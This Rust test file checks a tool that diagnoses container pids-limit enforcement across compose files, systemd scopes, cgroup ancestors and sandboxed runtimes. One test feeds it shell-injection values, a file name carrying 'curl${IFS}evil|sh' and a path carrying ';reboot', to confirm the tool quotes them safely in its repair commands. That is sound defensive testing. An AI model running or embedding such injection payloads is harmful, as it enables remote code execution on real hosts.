//! States that look like a cause and are none, or are less certain than they look.

use super::*;

fn filled(mut facts: Facts) -> Facts {
    let compose = facts.compose.as_mut().unwrap();
    if let Says::Limit { filled, .. } = &mut compose.says {
        *filled = true;
    }
    facts
}

#[test]
fn a_limit_from_a_variable_proves_nothing() {
    only(&filled(composed(unlimited(), 25, 10)), Code::NotRecreated, Possible);
    only(&filled(composed(unlimited(), -1, 10)), Code::ExplicitUnlimited, Possible);
    for newer_by in [10, -10] {
        // The shell had 500, and 500 is in force.
        let report = judge(&filled(composed(limited(500), 25, newer_by)));
        assert_eq!((report.verdict, report.declared), (Verdict::Enforced, Some(500)));
        let finding = &report.findings[0];
        assert!(finding.certainty == Possible && !finding.repair.possible, "{finding:#?}");
        assert!(report.places.iter().all(|place| !place.breaks), "{:#?}", report.places);
    }
    assert_eq!(codes(&judge(&filled(composed(limited(25), 25, 10)))), []);
}

/// Facts with `current` of `limit` tasks in a slice above. The target itself has 12 of `own` tasks.
fn below(own: Limit, limit: u64, current: u64) -> Facts {
    let mut facts = limited(25);
    facts.container = None;
    (facts.chain[0].max, facts.chain[0].current) = (Some(own), Some(12));
    let slice = &mut facts.chain[1];
    slice.path = "/mcp.slice".into();
    (slice.max, slice.current) = (Some(Limit::Tasks(limit)), Some(current));
    facts
}

#[test]
fn a_limit_above_that_other_cgroups_used_up_is_reported() {
    let own = Limit::Tasks(25);
    let report = only(&below(own, 100, 100), Code::AncestorLimit, Proved);
    let title = "/mcp.slice has 100 of 100 tasks: forks here fail, although this cgroup has only \
                 12 of 25 tasks";
    assert_eq!(report.findings[0].title, title);
    let report = only(&below(own, 100, 96), Code::AncestorLimit, Proved);
    assert!(report.findings[0].title.contains("may fail"));
    let report = only(&below(Limit::Max, 100, 100), Code::AncestorLimit, Proved);
    assert!(report.findings[0].title.contains("12 tasks"));
    // The slice has enough room; as much room as the target; no tasks but the target's.
    for facts in [below(own, 100, 90), below(own, 300, 287), below(Limit::Max, 12, 12)] {
        assert_eq!(codes(&judge(&facts)), [], "{:?}", facts.chain[1]);
    }
    let mut lxc = below(own, 100, 100);
    lxc.chain[1].path = "/lxc.payload.a/x".into();
    only(&lxc, Code::Lxc, Proved);
}

#[test]
fn a_limit_above_is_intended_if_no_limit_is_wanted_here() {
    let meant = |facts: &Facts| {
        let report = judge(facts);
        assert_eq!((codes(&report), report.verdict), (vec![], Verdict::Enforced));
        report.ok.iter().any(|fine| fine.code == Code::WrongLevel)
    };
    assert!(meant(&below(Limit::Max, 100, 20)));
    assert!(!meant(&below(Limit::Tasks(25), 100, 20)), "the target's own limit is lower");
    // systemd's default was not asked for.
    assert!(meant(&scoped(below(Limit::Tasks(1698), 100, 20), Limit::Tasks(1698), 252)));
    only(&below(Limit::Tasks(200), 100, 20), Code::AncestorLimit, Proved);
    let mut pod = below(Limit::Max, 100, 20);
    pod.chain[1].path = "/kubepods/pod1".into();
    only(&pod, Code::PodLevel, Proved);
}

#[test]
fn the_limit_of_a_scope_above_is_set_at_run_time_only() {
    let mut facts = below(Limit::Tasks(200), 100, 20);
    facts.chain[1].path = "/user.slice/a b.scope".into();
    let report = only(&facts, Code::AncestorLimit, Proved);
    let command = "systemctl set-property --runtime 'a b.scope' TasksMax=N";
    assert_eq!(report.findings[0].repair.command, command);
}

#[test]
fn the_default_of_systemd_does_not_count_as_enforced() {
    let mut facts = scoped(unlimited(), Limit::Tasks(1698), 252);
    facts.chain[0].max = Some(Limit::Tasks(1698));
    let report = only(&facts, Code::ExplicitUnlimited, Proved);
    assert_eq!((report.verdict, report.effective_limit), (Verdict::NotEnforced, Some(1698)));
    assert!(report.ok.iter().all(|fine| fine.code != Code::Enforced), "{:?}", report.ok);
    // A limit of the same number that was asked for does count.
    let facts = scoped(limited(1698), Limit::Tasks(1698), 252);
    assert_eq!(judge(&facts).verdict, Verdict::Enforced);
}

#[test]
fn on_another_kernel_only_the_engine_is_asked() {
    let mut facts = limited(25);
    container(&mut facts).runtime = "runsc".into();
    let report = only(&facts, Code::Sandbox, Proved);
    assert_eq!((report.declared, report.effective_limit), (Some(25), None));
    assert_eq!((report.charged.tasks, report.sizing), (None, None));
    assert!(report.ok.is_empty(), "{:?}", report.ok);
    let places: Vec<Layer> = report.places.iter().map(|place| place.place).collect();
    assert_eq!(places, [Layer::Engine]);
}

#[test]
fn text_from_an_image_is_quoted_as_one_shell_word() {
    let mut facts = composed(unlimited(), 25, 10);
    let compose = facts.compose.as_mut().unwrap();
    compose.files = vec!["/x;curl${IFS}evil|sh;.yml".into()];
    for says in [Says::Invalid { why: "x".into() }, Says::Unknown { why: "x".into() }] {
        facts.compose.as_mut().unwrap().says = says;
        let command = &judge(&facts).findings[0].repair.command;
        assert_eq!(command, "docker compose -f '/x;curl${IFS}evil|sh;.yml' config");
    }
    let mut facts = unlimited();
    facts.chain[0].max = None;
    facts.chain[1].path = "/a b;reboot".into();
    (facts.chain[1].has_pids, facts.chain[1].hands_pids_down) = (Some(true), Some(false));
    let report = only(&facts, Code::NotDelegated, Proved);
    assert!(report.findings[0].repair.command.contains("cat 'a b;reboot',"));
    let mut facts = below(Limit::Tasks(200), 100, 20);
    facts.chain[1].path = "/a b".into();
    let report = only(&facts, Code::AncestorLimit, Proved);
    assert!(report.findings[0].repair.command.starts_with("raise '/a b/pids.max' "));
}

#[test]
fn zombies_were_created_inside_too() {
    let mut facts = with(limited(5), 3, INIT);
    facts.zombies = (200..208).map(|pid| process(pid, INIT + 1)).collect();
    facts.chain[0].current = Some(12);
    let report = judge(&facts);
    assert_eq!(codes(&report), [Code::LoweredBelow, Code::Zombies]);
    assert_eq!(report.findings[0].certainty, Proved);
}

#[test]
fn processes_moved_in_with_threads_and_children_do_not_prove_a_lowered_limit() {
    // One process of 30 threads, and one with ten children.
    let mut threads = with(limited(25), 1, SHIM);
    threads.members[1].threads = 30;
    let tree = with(with(limited(5), 1, SHIM), 10, INIT + 1);
    for mut facts in [threads, tree] {
        facts.chain[0].current = Some(facts.threads());
        let report = only(&facts, Code::ExternalMigration, Possible);
        assert!(report.findings[0].title.starts_with("a process came in"));
        // An exec begins as one task, so the rest was created inside.
        container(&mut facts).execs = vec![Pid(INIT + 1)];
        only(&facts, Code::LoweredBelow, Proved);
        facts.container = None;
        only(&facts, Code::LoweredBelow, Possible);
    }
}

#[test]
fn without_a_process_to_name_none_is_said_to_have_come_in() {
    // More tasks are charged than are visible.
    let mut facts = limited(5);
    facts.chain[0].current = Some(9);
    only(&facts, Code::LoweredBelow, Possible);
}

#[test]
fn another_container_with_only_the_default_of_systemd_has_no_limit() {
    let other = |limit| Other { same_image: true, limit: Some(limit), ..Other::default() };
    let mut facts = scoped(limited(25), Limit::Tasks(25), 252);
    facts.others = vec![other(Limit::Tasks(1698))];
    only(&facts, Code::OtherContainers, Proved);
    facts.others = vec![other(Limit::Tasks(500))];
    assert_eq!(codes(&judge(&facts)), []);
    let mut facts = limited(25);
    facts.others = vec![other(Limit::Tasks(1698))];
    assert_eq!(codes(&judge(&facts)), [], "without systemd the number is a limit");
}

#[test]
fn a_stricter_limit_in_force_is_only_medium() {
    let severity = |facts: &Facts, code| {
        let report = judge(facts);
        assert_eq!(codes(&report), [code], "{:#?}", report.findings);
        report.findings[0].severity
    };
    // Created with 25, and the file has 500 now; then the other way round.
    assert_eq!(severity(&composed(limited(25), 500, 10), Code::NotRecreated), Severity::Medium);
    assert_eq!(severity(&composed(limited(500), 25, 10), Code::NotRecreated), Severity::Critical);
    let title = judge(&composed(limited(460), 25, 10)).findings[0].title.clone();
    assert!(title.contains("the engine has 460") && title.contains("write 460"), "{title}");
    for (facts, expected) in [(limited(25), Severity::Medium), (unlimited(), Severity::Critical)] {
        let mut invalid = composed(facts, 25, 10);
        invalid.compose.as_mut().unwrap().says = Says::Invalid { why: "two values".into() };
        assert_eq!(severity(&invalid, Code::ComposeInvalid), expected);
    }
    let mut reset = scoped(limited(500), Limit::Tasks(40), 252);
    reset.chain[0].max = Some(Limit::Tasks(40));
    assert_eq!(severity(&reset, Code::SystemdReset), Severity::Medium);
}

#[test]
fn a_zero_that_docker_stores_comes_from_an_update() {
    let mut facts = composed(unlimited(), 25, 10);
    container(&mut facts).pids_limit = Some(0);
    let report = only(&facts, Code::ExplicitUnlimited, Proved);
    assert!(report.findings[0].title.contains("update"));
    assert!(report.findings[0].repair.command.ends_with("--limit 25"));
    facts.engine.as_mut().unwrap().kind = EngineKind::Podman;
    only(&facts, Code::NotRecreated, Proved);
}

#[test]
fn a_ulimit_is_the_wrong_layer_only_if_it_limits_something() {
    let with_ulimit = |nproc| {
        let mut facts = composed(unlimited(), 25, 10);
        container(&mut facts).nproc_ulimit = Some(nproc);
        facts.compose.as_mut().unwrap().says = Says::Nothing { elsewhere: vec![] };
        facts
    };
    only(&with_ulimit(25), Code::WrongLayer, Proved);
    only(&with_ulimit(-1), Code::NeverDeclared, Proved);
    let mut facts = with_ulimit(25);
    facts.compose = None;
    only(&facts, Code::WrongLayer, Proved);
    container(&mut facts).nproc_ulimit = Some(-1);
    only(&facts, Code::ExplicitUnlimited, Proved);
}

#[test]
fn processes_that_left_are_told_from_those_that_entered_one_by_one() {
    let alien =
        |pid, parent, cgroup: &str| Process { cgroup: cgroup.into(), ..process(pid, parent) };
    let mut facts = limited(25);
    container(&mut facts).privileged = true;
    let shell = alien(900, 1, "/user.slice/session-1.scope");
    let of_shell = alien(901, 900, "/user.slice/session-1.scope");
    // The child of a process that left has the lower pid.
    let (escaped, child) = (alien(801, INIT, "/escaped"), alien(800, 801, "/escaped"));
    facts.aliens = vec![child, escaped, shell, of_shell];
    let report = judge(&facts);
    assert_eq!(codes(&report), [Code::EscapedCgroup, Code::PidNamespace]);
    let titles: Vec<&str> = report.findings.iter().map(|one| one.title.as_str()).collect();
    assert!(titles[0].starts_with("2 processes") && titles[1].starts_with("2 processes"));
    // Another container in the namespace, and one that an inner engine created: each is its own finding.
    let (shared, inner) = ("b".repeat(64), "c".repeat(64));
    facts.aliens = vec![
        alien(900, 60, &format!("/docker/{shared}")),
        alien(901, INIT, &format!("/docker/{inner}")),
    ];
    let report = judge(&facts);
    assert_eq!(codes(&report), [Code::InnerOutside, Code::PidNamespace]);
    assert!(report.findings[0].title.contains("cccccccccccc"));
    assert!(report.findings[1].title.contains("bbbbbbbbbbbb"));
    // An orphan in a shared namespace is reparented to this container's first process.
    facts.aliens[1].cgroup = format!("/docker/{shared}");
    assert_eq!(codes(&judge(&facts)), [Code::PidNamespace]);
    // A health check that is just starting.
    facts.aliens =
        vec![Process { comm: "runc:[2:INIT]".into(), ..alien(900, SHIM, "/system.slice") }];
    assert_eq!(codes(&judge(&facts)), []);
}

#[test]
fn a_direct_write_is_not_proved_unless_systemd_was_asked() {
    let mut facts = limited(25);
    (facts.chain[0].max, facts.chain[0].denials) = (Some(Limit::Max), Some(4));
    facts.engine.as_mut().unwrap().cgroup_driver = CgroupDriver::Systemd;
    only(&facts, Code::RawWrite, Possible);
    only(&scoped(facts, Limit::Tasks(25), 252), Code::RawWrite, Proved);
}

#[test]
fn a_sandbox_is_known_by_its_shim_and_a_missing_controller_by_the_engine() {
    for (runtime, sandbox) in [("io.containerd.kata.v2", true), ("io.containerd.runc.v2", false)] {
        let mut facts = limited(25);
        container(&mut facts).runtime = runtime.into();
        let expected = if sandbox { vec![Code::Sandbox] } else { vec![] };
        assert_eq!(codes(&judge(&facts)), expected, "{runtime}");
    }
    let mut facts = limited(25);
    facts.engine.as_mut().unwrap().pids_limit = Some(false);
    assert_eq!(codes(&judge(&facts)), [], "the cgroup has a limit nevertheless");
    facts.chain[0].max = None;
    only(&facts, Code::ControllerDisabled, Proved);
}

#[test]
fn memory_is_called_unlimited_too_only_if_pids_are() {
    let note = |facts: Facts| judge(&with(facts, 1, INIT)).notes.concat();
    assert!(note(limited(25)).contains("memory has no limit:"));
    assert!(note(unlimited()).contains("memory has no limit either:"));
}
